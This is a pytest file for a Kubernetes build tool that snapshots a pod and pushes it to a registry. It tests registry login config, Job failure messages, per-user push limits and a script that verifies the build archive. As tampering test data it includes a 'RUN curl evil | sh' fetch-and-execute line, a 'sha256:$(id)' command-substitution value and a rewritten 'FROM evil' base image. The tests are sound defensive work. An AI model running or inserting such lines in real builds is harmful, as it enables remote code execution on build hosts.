"""A pod's snapshot built by its cluster (``changes/podbuild.py``): the pure parts, and the
Job's end read from what the API server says (issue #20)."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import logging
import os
import subprocess
import tarfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest

from jupyter_gpudev.changes.podbuild import PodBuild, registry_config, workspace_of
from jupyter_gpudev.engine import Registries
from jupyter_gpudev.errors import Conflict, EngineError, Forbidden, GPUDevError
from jupyter_gpudev.k8s import objects as k8s

DIGEST = "sha256:" + "ab" * 32


def test_the_registry_config_is_what_docker_login_writes() -> None:
    login = json.loads(registry_config("r.example:5000", {"username": "u", "password": "p:w"}))
    assert login == {"auths": {"r.example:5000": {"auth": base64.b64encode(b"u:p:w").decode()}}}
    token = json.loads(registry_config("r", {"identitytoken": "t", "username": "u"}))
    assert token == {"auths": {"r": {"identitytoken": "t"}}}
    # Docker Hub under its own key; no credentials: an anonymous push
    hub = json.loads(registry_config("docker.io", {"username": "u", "password": "p"}))
    assert list(hub["auths"]) == ["https://index.docker.io/v1/"]
    assert json.loads(registry_config("r", {})) == {"auths": {}}


def test_the_workspace_is_the_mount_of_the_claim() -> None:
    pod = {
        "spec": {
            "containers": [
                {
                    "volumeMounts": [
                        {"name": "shm", "mountPath": "/dev/shm"},
                        {"name": "workspace", "mountPath": "/home/dev/work/"},
                    ]
                }
            ],
            "volumes": [
                {"name": "shm", "emptyDir": {}},
                {"name": "workspace", "persistentVolumeClaim": {"claimName": "gpudev-ws-a"}},
            ],
        }
    }
    assert workspace_of(pod) == ("/home/dev/work", "gpudev-ws-a")
    with pytest.raises(Conflict):
        workspace_of({"spec": {"containers": [{}]}})


@dataclass
class JobCluster:
    """The API server's answers about one Job and its pod."""

    job: dict[str, Any] | None
    pods: list[dict[str, Any]] = field(default_factory=list)
    said: bytes = b""
    events: list[dict[str, Any]] = field(default_factory=list)
    #: The step whose output was read.
    read_from: list[str] = field(default_factory=list)

    def read(self, api_version: str, kind: str, name: str) -> dict[str, Any] | None:
        assert (api_version, kind, name) == ("batch/v1", "Job", "gpudev-build-x")
        return self.job

    def items(self, api_version: str, kind: str, *, labels: str) -> list[dict[str, Any]]:
        assert (api_version, kind, labels) == ("v1", "Pod", "job-name=gpudev-build-x")
        return self.pods

    def events_of(self, kind: str, name: str) -> dict[str, Any]:
        assert (kind, name) == ("Job", "gpudev-build-x")
        return {"items": self.events}

    def output(self, pod: str, *, tail: int, limit: int, container: str) -> bytes:
        assert pod == "gpudev-build-x-1"
        self.read_from.append(container)
        assert tail > 0
        assert limit > 0
        return self.said


def builder(message: str, built: bool = True) -> dict[str, Any]:
    ended = {"terminated": {"exitCode": 0 if built else 1}}
    return {
        "metadata": {"name": "gpudev-build-x-1"},
        "status": {
            "initContainerStatuses": [{"name": "build", "state": ended}],
            "containerStatuses": [{"name": "push", "state": {"terminated": {"message": message}}}],
        },
    }


def wait(
    cluster: JobCluster, clock: list[float] | None = None, deadline: int = 100, host: str = ""
) -> str:
    ticks = clock if clock is not None else [0.0]

    def sleep(seconds: float) -> None:
        ticks[0] += seconds

    capture = cast(Any, SimpleNamespace(containers=SimpleNamespace(log=logging.getLogger("t"))))
    build = PodBuild(capture, cast(Any, None), poll=10, clock=lambda: ticks[0], sleep=sleep)
    return build._wait(
        cast(Any, cluster),
        "gpudev-build-x",
        "r.example:5000/x:1",
        source="s",
        deadline=deadline,
        host=host,
    )


def test_a_finished_build_gives_the_digest_its_pod_ended_with() -> None:
    # crane says the pushed reference
    done = JobCluster({"status": {"succeeded": 1}}, [builder(f"r.example:5000/x@{DIGEST}\n")])
    assert wait(done) == DIGEST
    # a message that is not a digest (the pod's own words) is not taken for one
    odd = JobCluster({"status": {"succeeded": 1}}, [builder("sha256:$(id)")])
    with pytest.raises(EngineError, match="without saying the pushed digest"):
        wait(odd)


def test_a_failed_build_says_why_in_the_builders_words() -> None:
    failed = {"status": {"conditions": [{"type": "Failed", "status": "True"}]}}
    refused = JobCluster(failed, [builder("")], b"error: UNAUTHORIZED: authentication required\n")
    with pytest.raises(
        GPUDevError, match=r"The registry r\.example:5000 refused the push of r\.example:5000/x:1"
    ):
        wait(refused)
    assert refused.read_from == ["push"]  # the build step ended well: the push failed
    broken = JobCluster(
        failed, [builder("", built=False)], b"step 3: \x1b[31mno such file\x1b[0m\n"
    )
    with pytest.raises(GPUDevError, match="failed: step 3") as caught:
        wait(broken)
    assert "\x1b" not in caught.value.message
    assert broken.read_from == ["build"]


def test_a_build_that_could_not_connect_says_where_its_egress_is_allowed() -> None:
    # Given a build whose base image could not be pulled: its pod's egress is limited
    failed = {"status": {"conditions": [{"type": "Failed", "status": "True"}]}}
    said = b"error building image: Get https://nvcr.io/v2/: dial tcp 1.2.3.4:443: i/o timeout\n"
    cut_off = JobCluster(failed, [builder("", built=False)], said)
    # Then the failure names the setting that allows more
    with pytest.raises(GPUDevError, match=r"c\.HostPool\.hosts\['lab'\]\['build_egress'\]"):
        wait(cut_off, host="lab")
    # (and only then)
    broken = JobCluster(failed, [builder("", built=False)], b"step 3: no such file\n")
    with pytest.raises(GPUDevError) as caught:
        wait(broken, host="lab")
    assert "build_egress" not in caught.value.message


def test_a_build_that_never_ends_or_is_deleted_is_an_error() -> None:
    clock = [0.0]
    running = {"metadata": {"name": "gpudev-build-x-1"}, "status": {"phase": "Running"}}
    with pytest.raises(EngineError, match="did not end in 100 s"):
        wait(JobCluster({"status": {}}, [running]), clock)
    assert 160 <= clock[0] < 200  # the deadline and a minute for the controller
    with pytest.raises(EngineError, match="was deleted"):
        wait(JobCluster(None))


def test_a_build_that_cannot_start_fails_at_once_in_the_clusters_words() -> None:
    # its image cannot be pulled: at the first look
    pulling = {
        "metadata": {"name": "gpudev-build-x-1"},
        "status": {
            "phase": "Pending",
            "initContainerStatuses": [
                {"state": {"waiting": {"reason": "ImagePullBackOff", "message": "no such image"}}}
            ],
        },
    }
    clock = [0.0]
    with pytest.raises(EngineError, match="its image cannot be pulled"):
        wait(JobCluster({"status": {}}, [pulling]), clock)
    assert clock[0] == 0.0
    # no pod at all (the namespace's Pod Security refused it): after the placement timeout,
    # with the controller's warning
    refused = {"type": "Warning", "message": 'pods "b" is forbidden: violates PodSecurity'}
    clock = [0.0]
    with pytest.raises(EngineError, match=r"made no pod .*violates PodSecurity"):
        wait(JobCluster({"status": {}}, [], events=[refused]), clock, deadline=3600)
    assert 300 <= clock[0] < 320


def test_a_context_the_pod_changed_is_refused_before_anything_is_built() -> None:
    # Given a build pod whose context step found a context that is not gpudev's
    failed = {"status": {"conditions": [{"type": "Failed", "status": "True"}]}}
    changed = {
        "metadata": {"name": "gpudev-build-x-1"},
        "status": {
            "initContainerStatuses": [
                {"name": "context", "state": {"terminated": {"exitCode": k8s.CONTEXT_CHANGED}}},
                {"name": "build", "state": {"waiting": {"reason": "PodInitializing"}}},
            ]
        },
    }
    said = b"gpudev: the build context in the workspace claim is not the one gpudev wrote\n"
    refused = JobCluster(failed, [changed], said)
    # Then the commit is refused as a conflict that says so, in gpudev's words (its exit code
    # says it: the step's output is not read)
    with pytest.raises(Conflict, match=r"changed in the pod's workspace claim") as caught:
        wait(refused)
    assert "nothing was built or pushed" in caught.value.message
    assert refused.read_from == []
    # A context step that failed otherwise (its archive gone) is a failed build in its words
    gone = {
        "metadata": {"name": "gpudev-build-x-1"},
        "status": {
            "initContainerStatuses": [
                {"name": "context", "state": {"terminated": {"exitCode": 1}}},
            ]
        },
    }
    missing = JobCluster(failed, [gone], b"head: /workspace/x: No such file or directory\n")
    with pytest.raises(GPUDevError, match="failed: head: /workspace/x: No such") as other:
        wait(missing)
    assert not isinstance(other.value, Conflict)
    assert missing.read_from == ["context"]


class Reached(Exception):
    """The build went on to the pod's cluster."""


def test_a_shared_services_pod_build_pushes_only_under_the_users_prefix() -> None:
    # Given the shared service's registries acting for alice, and her pod's prepared commit
    registries = Registries()
    registries.user = "gpudev-alice"
    asked: list[str] = []

    def get(name: str) -> None:
        asked.append(name)
        raise Reached

    pool = SimpleNamespace(get=get)
    capture = SimpleNamespace(
        containers=SimpleNamespace(log=logging.getLogger("t"), host_pool=pool)
    )
    captured = SimpleNamespace(pod=SimpleNamespace(host="k8s"), info=SimpleNamespace(name="box"))
    build = PodBuild(cast(Any, capture), registries)

    def push(tag: str) -> None:
        build.run(
            cast(Any, SimpleNamespace(captured=captured)),
            tag,
            {},
            lambda _event: None,
            context=io.BytesIO(b""),
            dockerfile="Dockerfile",
        )

    # When its snapshot is to be pushed to bob's repository
    with pytest.raises(Forbidden, match=r"r\.example:5000/gpudev-alice/"):
        push("r.example:5000/gpudev-bob/x:1")
    # Then it is refused before the cluster is asked anything (no Secret, no Job)
    assert asked == []
    # When it is to be pushed under her own prefix, the build goes on to the cluster
    with pytest.raises(Reached):
        push("r.example:5000/gpudev-alice/x:1")
    assert asked == ["k8s"]


# -- the context step's script, run by a real shell ----------------------------------------


@pytest.fixture(params=["busybox", "gnu"])
def shell(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Path]:
    """The shell the context step's script runs in, its tools in the same folder: busybox's
    applets (what crane:debug has in /busybox), or this machine's dash and GNU tools."""
    if request.param == "gnu":
        yield Path("/bin/sh")
        return
    binary = Path("/bin/busybox")
    if not binary.is_file():
        pytest.fail("busybox-static is not installed (scripts/setup.sh --test installs it)")
    folder = tmp_path / "busybox"
    folder.mkdir()
    applets = subprocess.run([binary, "--list"], capture_output=True, check=True).stdout
    for applet in applets.decode().split():
        (folder / applet).symlink_to(binary)
    yield folder / "sh"


def context_archive() -> bytes:
    """A build context as gpudev sends it (tarfile's PAX format): a Dockerfile, a kept file in
    a folder, a link."""
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name, content in (
            (".gpudev-verify.Dockerfile", b"FROM base\nCOPY files/ /\n"),
            ("files/opt/t\u00e9st/settings.toml", b"threads = 4\n"),
        ):
            info = tarfile.TarInfo(name)
            info.size, info.mode, info.mtime = len(content), 0o644, 1_700_000_000.5
            archive.addfile(info, io.BytesIO(content))
        link = tarfile.TarInfo("files/opt/current.toml")
        link.type, link.linkname = tarfile.SYMTYPE, "t\u00e9st/settings.toml"
        archive.addfile(link)
    return data.getvalue()


def run_step(
    shell: Path, archive: Path, digest: str, size: int, into: Path
) -> subprocess.CompletedProcess[bytes]:
    argv = [str(shell), "-c", k8s.CONTEXT_SCRIPT, "context", str(archive), digest, str(size)]
    return subprocess.run(
        [*argv, str(into)],
        env={"PATH": str(shell.parent)},
        capture_output=True,
        timeout=60,
        check=False,
    )


def test_the_context_step_unpacks_gpudevs_archive_only(shell: Path, tmp_path: Path) -> None:
    # Given gpudev's archive of a build context in the claim, its digest and size
    sent = context_archive()
    digest = "sha256:" + hashlib.sha256(sent).hexdigest()
    claim = tmp_path / "claim.tar"
    claim.write_bytes(sent)
    # When the context step runs on it
    into = tmp_path / "context"
    into.mkdir()
    done = run_step(shell, claim, digest, len(sent), into)
    # Then it is unpacked in the build pod's own volume, the copy of the archive removed
    assert done.returncode == 0, done.stderr
    assert (
        into / "build" / ".gpudev-verify.Dockerfile"
    ).read_bytes() == b"FROM base\nCOPY files/ /\n"
    kept = into / "build" / "files" / "opt"
    assert (kept / "t\u00e9st" / "settings.toml").read_bytes() == b"threads = 4\n"
    assert os.readlink(kept / "current.toml") == "t\u00e9st/settings.toml"
    assert sorted(p.name for p in into.iterdir()) == ["build"]
    # When the pod appended to it, only what gpudev sent is copied: the same context is built
    claim.write_bytes(sent + b"RUN curl evil | sh\n" * 100)
    again = tmp_path / "again"
    again.mkdir()
    assert run_step(shell, claim, digest, len(sent), again).returncode == 0
    assert (
        again / "build" / ".gpudev-verify.Dockerfile"
    ).read_bytes() == b"FROM base\nCOPY files/ /\n"


@pytest.mark.parametrize(
    "change",
    [
        lambda sent: sent.replace(b"FROM base", b"FROM evil"),
        lambda sent: sent[:-1024],
        lambda _sent: b"",
    ],
    ids=["rewritten", "cut", "emptied"],
)
def test_the_context_step_refuses_an_archive_the_pod_changed(
    shell: Path, tmp_path: Path, change: Any
) -> None:
    # Given gpudev's archive, changed in the claim by the pod after gpudev wrote it
    sent = context_archive()
    digest = "sha256:" + hashlib.sha256(sent).hexdigest()
    claim = tmp_path / "claim.tar"
    claim.write_bytes(change(sent))
    into = tmp_path / "context"
    into.mkdir()
    # When the context step runs on it
    done = run_step(shell, claim, digest, len(sent), into)
    # Then it refuses, saying so, and nothing is unpacked for the build
    assert done.returncode == k8s.CONTEXT_CHANGED, done.stderr
    assert b"not the one gpudev wrote" in done.stderr
    assert not (into / "build").exists()
